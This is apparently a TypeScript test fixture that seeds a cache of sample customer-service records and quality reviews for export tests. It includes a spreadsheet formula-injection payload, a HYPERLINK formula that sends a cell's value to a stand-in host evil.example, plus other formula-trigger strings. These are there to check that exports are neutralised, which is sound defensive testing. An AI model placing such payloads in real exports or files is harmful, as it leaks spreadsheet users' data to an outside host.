/**
 * A small cache every export test can read with exact expectations: HTML e-mail bodies, a hostile
 * formula-bearing text, survey answers, raw status and channel words, one typification code with two
 * descriptions, and reviews in every state.
 */
import { saveReview } from '../../src-main/core/store/sqlite/audit/reviews-sql';
import type { Db } from '../../src-main/core/store/sqlite/connection/database';
import type { Chat4Record } from '../../src-main/core/wolkvox/fields';
import { ctx, openFresh, recordOf, upsertBatch } from './store-fixtures';

export const HTML_BODY =
  '<html><head><style>td{padding:0;border:1px}</style><title>t</title></head><body><p>Hola&nbsp;equipo,</p>' +
  '<p>Mi pedido <b>123</b> no lleg&oacute;.</p><table><tr><td>Caso</td><td>A&amp;B</td></tr></table><img src="http://track.example/p.gif"></body></html>';
export const HTML_ANSWER = '<div>Con gusto.<br>Saludos &#8212; Ana</div>';
export const HOSTILE_BODY = 'x;=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** Fields in insertion order; the export walks newest first (id descending). */
export const FIXTURE_RECORDS: Array<Partial<Chat4Record>> = [
  {
    channel: 'Email', agent_name: 'Ana Gómez', case_id: 'K-1', from: 'cliente1@mail.com', subject: 'Pedido', body: HTML_BODY, answer: HTML_ANSWER,
    date_creation: '2026-01-18 19:34:31', close_date: '2026-01-18 20:00:05', evaluation_survey: '5', cod_act: '0012',
    cod_description: 'Reclamo', status: 'close',
  },
  {
    channel: 'facebook_page', agent_name: 'Luis Pérez', case_id: 'K-2', from: 'cliente2@mail.com', subject: 'Hola', body: HOSTILE_BODY, answer: '-1, then +2; @me',
    date_creation: '2026-01-19 08:00:00', evaluation_survey: '', cod_act: '0012', cod_description: 'Reclamo envío', status: 'open',
  },
  {
    channel: 'WhatsApp', agent_name: 'Ana Gómez', case_id: 'K-3', from: 'cliente3@mail.com', subject: 'a, b; c\td', body: 'Precio 3 < 5 y 7 > 2', answer: 'ok',
    date_creation: '2026-01-20 10:15:00', close_date: '2026-01-20 10:30:00', evaluation_survey: '3', cod_act: '0012',
    cod_description: 'Reclamo', status: 'close',
  },
  {
    channel: 'instagram', agent_name: '', case_id: 'K-4', from: 'cliente4@mail.com', subject: '', body: '¿Tienen talla M?', answer: '',
    date_creation: '2026-01-21 11:00:00', evaluation_survey: '4', cod_act: '0040', cod_description: 'Consulta', status: 'open',
  },
];

/** A fresh cache holding FIXTURE_RECORDS and three reviews (pass, fail, in review); returns the uids by case id. */
export function fixtureCache(prefix = 'wolkvox-export-fixture-'): { db: Db; path: string; uid: (caseId: string) => string } {
  const { db, path } = openFresh(prefix);
  upsertBatch(db, FIXTURE_RECORDS.map((f) => recordOf(f)), ctx);
  const uid = (caseId: string) => db.prepare('SELECT uid FROM interactions WHERE case_id = ?').pluck().get(caseId) as string;
  saveReview(db, { uid: uid('K-1'), scores: { greeting: true, understanding: 5, resolution: true, tone: 4, typification: true, response_time: 3 }, status: 'pass', note: 'Bien', reviewer: 'Ana' }, Date.UTC(2026, 0, 22, 15));
  saveReview(db, { uid: uid('K-2'), scores: { greeting: false, understanding: 1, resolution: false, tone: 2, typification: false, response_time: 1 }, tags: ['coaching', 'tono'], reviewer: 'Ana' }, Date.UTC(2026, 0, 22, 16));
  saveReview(db, { uid: uid('K-3'), status: 'in review', note: '=1+1', reviewer: 'Luis' }, Date.UTC(2026, 0, 22, 17));
  return { db, path, uid };
}
